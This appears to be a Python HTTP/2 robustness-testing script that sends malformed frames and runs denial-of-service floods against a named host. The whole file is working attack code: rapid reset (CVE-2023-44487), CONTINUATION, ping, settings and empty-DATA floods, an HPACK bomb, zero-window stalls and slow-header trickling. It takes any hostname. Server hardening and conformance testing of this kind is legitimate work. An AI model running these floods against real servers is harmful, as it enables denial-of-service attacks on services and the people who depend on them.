#!/usr/bin/python3
"""A client that breaks the rules of HTTP/2, or keeps them only to be a burden.

    h2_abuse.py HOST ATTACK        one of ATTACKS (--list names them)

Prints {"attack", "closed": whether the server ended the connection, "goaway": its error code or
null, "resets": {code: n}, "answers": n, "acks": n}. The verdict is the caller's.
"""
import argparse
import collections
import json
import select
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0, 1, 2, 3, 4
PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 5, 6, 7, 8, 9
PRIORITY_UPDATE, UNKNOWN = 0x10, 0xee
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
QUIET_S = 2.0          # how long an answer may take


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


class Peer:
    """A raw connection that has sent its preface and settings."""

    def __init__(self, host, preface=True):
        self.socket = socket.create_connection((host, 80), timeout=5)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = hpack.Encoder()
        self.host = host
        self.buffer = b""
        self.closed, self.goaway = False, None
        self.answers = self.acks = 0
        self.resets = collections.Counter()
        self.quiet_s = QUIET_S
        if preface:
            self.send(PREFACE + frame(SETTINGS))

    def send(self, data):
        """Sends all, reading meanwhile what has come; a server that hangs up ends it quietly."""
        view = memoryview(data)
        self.socket.setblocking(False)
        end = time.monotonic() + 20
        while len(view) and not self.closed and time.monotonic() < end:
            readable, writable, _ = select.select([self.socket], [self.socket], [], 1)
            if readable:
                self.receive()
            if writable and not self.closed:
                try:
                    view = view[self.socket.send(view):]
                except BlockingIOError:
                    pass
                except OSError:
                    self.closed = True

    def receive(self):
        try:
            data = self.socket.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self.closed = True
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            self.count(kind, flags, self.buffer[9:9 + length])
            self.buffer = self.buffer[9 + length:]

    def count(self, kind, flags, payload):
        if kind == GOAWAY:
            self.goaway = struct.unpack(">I", payload[4:8])[0]
        elif kind == RST_STREAM:
            self.resets[struct.unpack(">I", payload)[0]] += 1
        elif kind == HEADERS:
            self.answers += 1
        elif kind in (PING, SETTINGS) and flags & ACK:
            self.acks += 1

    def settle(self):
        """Reads until the server hangs up or says nothing for a while."""
        self.socket.setblocking(False)
        while not self.closed and select.select([self.socket], [], [], self.quiet_s)[0]:
            self.receive()

    def block(self, path="/", extra=()):
        return self.encoder.encode([(":method", "GET"), (":scheme", "http"),
                                    (":authority", self.host), (":path", path), *extra])

    def get(self, stream, path="/", flags=END_STREAM | END_HEADERS, extra=()):
        return frame(HEADERS, flags, stream, self.block(path, extra))


# Violations: the server has to end the connection (RFC 9113 5.4.1).
def http1_instead_of_a_preface(host):
    peer = Peer(host, preface=False)
    peer.send(b"GET / HTTP/1.1\r\nhost: x\r\n\r\n" + b"x" * 64)
    return peer


def a_frame_before_settings(host):
    peer = Peer(host, preface=False)
    peer.send(PREFACE + frame(PING, 0, 0, b"12345678"))
    return peer


def a_frame_that_is_too_large(host):
    peer = Peer(host)
    peer.send(struct.pack(">I", 1 << 20)[1:] + struct.pack(">BBI", DATA, 0, 1) + b"x" * 70000)
    return peer


def data_on_an_idle_stream(host):
    peer = Peer(host)
    peer.send(frame(DATA, 0, 7, b"hello"))
    return peer


def headers_on_an_even_stream(host):
    peer = Peer(host)
    peer.send(peer.get(2))
    return peer


def a_stream_number_that_goes_back(host):
    peer = Peer(host)
    peer.send(peer.get(9) + peer.get(3))
    return peer


def settings_of_a_wrong_length(host):
    peer = Peer(host)
    peer.send(frame(SETTINGS, 0, 0, b"12345"))
    return peer


def a_window_beyond_its_maximum(host):
    peer = Peer(host)
    peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fffffff)) * 2)
    return peer


def a_window_update_of_zero(host):
    peer = Peer(host)
    peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)))
    return peer


def an_interrupted_header_block(host):
    peer = Peer(host)
    peer.send(peer.get(1, flags=END_STREAM) + frame(PING, 0, 0, b"12345678"))
    return peer


def a_header_block_that_does_not_decode(host):
    peer = Peer(host)
    peer.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\xff\xff\xff\xff\xff\xff\xff"))
    return peer


def a_push_promise_from_a_client(host):
    peer = Peer(host)
    peer.send(frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + peer.block()))
    return peer


# Burdens: allowed or nearly so; a server may end the connection and must not suffer.
def rapid_reset(host):
    """CVE-2023-44487."""
    peer = Peer(host)
    cancel = struct.pack(">I", 8)
    for stream in range(1, 20001, 2):
        peer.send(peer.get(stream, "/slow?ms=100") + frame(RST_STREAM, 0, stream, cancel))
        if peer.closed:
            break
    return peer


def continuation_flood(host):
    """CVE-2024-27316 and its relatives."""
    peer = Peer(host)
    peer.send(peer.get(1, flags=0))
    piece = peer.encoder.encode([("x-filler", "v" * 4000)])
    for _ in range(2000):
        peer.send(frame(CONTINUATION, 0, 1, piece))
        if peer.closed:
            break
    return peer


def ping_flood(host):
    """CVE-2019-9512."""
    peer = Peer(host)
    peer.send(frame(PING, 0, 0, b"12345678") * 50000)
    return peer


def settings_flood(host):
    """CVE-2019-9515."""
    peer = Peer(host)
    peer.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 20000)
    return peer


def empty_data_flood(host):
    """CVE-2019-9518."""
    peer = Peer(host)
    peer.send(peer.get(1, "/echo", flags=END_HEADERS))
    peer.send(frame(DATA, 0, 1, b"") * 50000)
    return peer


def priority_flood(host):
    peer = Peer(host)
    peer.send(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 16)) * 50000)
    return peer


def window_update_flood(host):
    peer = Peer(host)
    peer.send(peer.get(1, "/slow?ms=500"))
    peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 50000)
    return peer


def hpack_bomb(host):
    """One large table entry, referred to again and again."""
    peer = Peer(host)
    peer.send(peer.get(1, extra=[("x-bomb", "v" * 3000)]))
    big = peer.block(extra=[("x-bomb", "v" * 3000)] * 5000)
    first, rest = big[:10000], big[10000:]
    peer.send(frame(HEADERS, END_STREAM | (0 if rest else END_HEADERS), 3, first))
    while rest:
        part, rest = rest[:10000], rest[10000:]
        peer.send(frame(CONTINUATION, 0 if rest else END_HEADERS, 3, part))
    return peer


def huge_headers(host):
    peer = Peer(host)
    block = peer.block(extra=[(f"x-{n}", "v" * 1000) for n in range(600)])
    peer.send(frame(HEADERS, END_STREAM, 1, block[:16000]))
    for at in range(16000, len(block), 16000):
        last = at + 16000 >= len(block)
        peer.send(frame(CONTINUATION, END_HEADERS if last else 0, 1, block[at:at + 16000]))
    return peer


def more_streams_than_allowed(host):
    peer = Peer(host)
    for stream in range(1, 10001, 2):
        peer.send(peer.get(stream, "/slow?ms=300"))
        if peer.closed:
            break
    return peer


def resets_made_by_us(host):
    """CVE-2025-8671: whatever makes the server reset costs as much as a reset."""
    peer = Peer(host)
    for stream in range(1, 10001, 2):
        peer.send(peer.get(stream, "/slow?ms=100")
                  + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))
        if peer.closed:
            break
    return peer


def padding_flood(host):
    """CVE-2019-9518, with padding."""
    peer = Peer(host)
    peer.send(peer.get(1, "/echo", flags=END_HEADERS))
    peer.send(frame(DATA, PADDED, 1, b"\3\0\0\0") * 5000)
    return peer


def priority_update_flood(host):
    peer = Peer(host)
    peer.send(frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", 1) + b"u=1, i") * 10000)
    return peer


def unknown_frame_flood(host):
    peer = Peer(host)
    peer.send(frame(UNKNOWN, 0, 0, b"?") * 10000)
    return peer


def many_fields(host):
    """Cookie crumbs: little to send, much to keep."""
    peer = Peer(host)
    for stream in range(1, 41, 2):
        peer.send(peer.get(stream, extra=[("cookie", "a")] * 200))
    return peer


def much_header_memory(host):
    """Every request is all right by itself."""
    peer = Peer(host)
    peer.send(b"".join(peer.get(stream, "/slow?ms=3000", extra=[("x-large", "v" * 12000)])
                       for stream in range(1, 101, 2)))
    return peer


def a_window_that_never_opens(host):
    """CVE-2019-9511: wants much, takes nothing."""
    peer = Peer(host)
    peer.quiet_s = 15
    peer.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
    select.select([peer.socket], [], [], 5)      # an ACK counts behind the server's SETTINGS only
    peer.send(frame(SETTINGS, ACK))
    for stream in range(1, 201, 2):
        peer.send(peer.get(stream, "/bytes?n=1000000"))
    return peer


def much_asked_and_nothing_read(host):
    """100 streams of 1 MiB, all windows open, and the socket left alone until the server resets."""
    peer = Peer(host)
    peer.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
    peer.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7fffffff)))
    select.select([peer.socket], [], [], 5)
    peer.send(frame(SETTINGS, ACK)
              + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fffffff - 65535)))
    peer.socket.sendall(b"".join(peer.get(stream, "/bytes?n=1048576")
                                 for stream in range(1, 201, 2)))
    hung_up = select.poll()
    hung_up.register(peer.socket, select.POLLHUP | select.POLLERR)
    hung_up.poll(60_000)
    return peer


def a_trickled_header_block(host):
    """Slow headers: a block that grows a byte at a time and is never complete."""
    peer = Peer(host)
    select.select([peer.socket], [], [], 5)
    peer.send(frame(SETTINGS, ACK))
    peer.send(struct.pack(">I", 16000)[1:] + struct.pack(">BBI", HEADERS, END_STREAM, 1))
    end = time.monotonic() + 30
    while not peer.closed and time.monotonic() < end:
        peer.send(b"\x40")
        if select.select([peer.socket], [], [], 0.25)[0]:
            peer.receive()
    return peer


def nothing_asked(host):
    """Connects, is polite, and stays."""
    peer = Peer(host)
    peer.quiet_s = 15
    select.select([peer.socket], [], [], 5)
    peer.send(frame(SETTINGS, ACK))
    return peer


def half_a_preface(host):
    peer = Peer(host, preface=False)
    peer.send(PREFACE[:10])
    return peer


VIOLATIONS = (http1_instead_of_a_preface, a_frame_before_settings, a_frame_that_is_too_large,
              data_on_an_idle_stream, headers_on_an_even_stream, a_stream_number_that_goes_back,
              settings_of_a_wrong_length, a_window_beyond_its_maximum, a_window_update_of_zero,
              an_interrupted_header_block, a_header_block_that_does_not_decode,
              a_push_promise_from_a_client)
BURDENS = (rapid_reset, continuation_flood, ping_flood, settings_flood, empty_data_flood,
           priority_flood, window_update_flood, hpack_bomb, huge_headers,
           more_streams_than_allowed, a_window_that_never_opens, half_a_preface,
           resets_made_by_us, padding_flood, priority_update_flood, unknown_frame_flood,
           many_fields, much_header_memory, much_asked_and_nothing_read,
           a_trickled_header_block, nothing_asked)
ATTACKS = {attack.__name__: attack for attack in VIOLATIONS + BURDENS}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("host", nargs="?")
    parser.add_argument("attack", nargs="?", choices=sorted(ATTACKS))
    parser.add_argument("--list", action="store_true")
    options = parser.parse_args()
    if options.list or not options.attack:
        print("\n".join(ATTACKS))
        return
    peer = ATTACKS[options.attack](options.host)
    peer.settle()
    print(json.dumps({"attack": options.attack, "closed": peer.closed, "goaway": peer.goaway,
                      "resets": peer.resets, "answers": peer.answers, "acks": peer.acks}))


if __name__ == "__main__":
    sys.exit(main())
